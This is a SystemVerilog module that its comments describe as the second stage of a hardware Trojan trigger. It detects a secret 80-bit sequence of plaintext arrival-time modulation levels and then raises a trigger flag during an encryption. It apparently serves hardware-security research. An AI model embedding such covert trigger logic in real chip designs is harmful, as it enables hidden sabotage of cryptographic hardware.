// mod_seq_detect: second stage of the Trojan trigger. It recognises the
// secret sequence of arrival-time modulation levels.
//
// An SEQ_W-bit shift register is loaded with the pre-encoded sequence SEQ.
// It only moves on clocks where fsm_rst marks a plaintext arrival. Then, if
// the arrival's level m_t equals the register's MSB, the register shifts
// left by one (a zero enters at the LSB); otherwise it is reloaded with SEQ.
// Once every bit has been matched the register is zero and f_trig is raised;
// the next arrival reloads SEQ and drops f_trig, so f_trig covers the
// encryption that the final matching plaintext starts. With the default
// 80-bit sequence 0x12349876deadbeef1235, f_trig rises after 80 consecutive
// matching arrivals. Register width, sequence, comparison with the MSB and
// reload-on-mismatch follow the trigger design; advancing on the
// system clock with fsm_rst as an enable, rather than clocking the register
// with fsm_rst itself, is this design's choice.
module mod_seq_detect #(
  parameter int              SEQ_W = 80,
  parameter logic [SEQ_W-1:0] SEQ  = SEQ_W'(80'h1234_9876_dead_beef_1235)
) (
  input  logic             clk,
  input  logic             rst_n,
  input  logic             fsm_rst,
  input  logic             m_t,
  output logic             f_trig,
  output logic [SEQ_W-1:0] sr
);

  assign f_trig = (sr == '0);

  always_ff @(posedge clk or negedge rst_n) begin
    if (!rst_n)
      sr <= SEQ;
    else if (fsm_rst) begin
      if (f_trig)
        sr <= SEQ;
      else if (sr[SEQ_W-1] == m_t)
        sr <= sr << 1;
      else
        sr <= SEQ;
    end
  end

endmodule
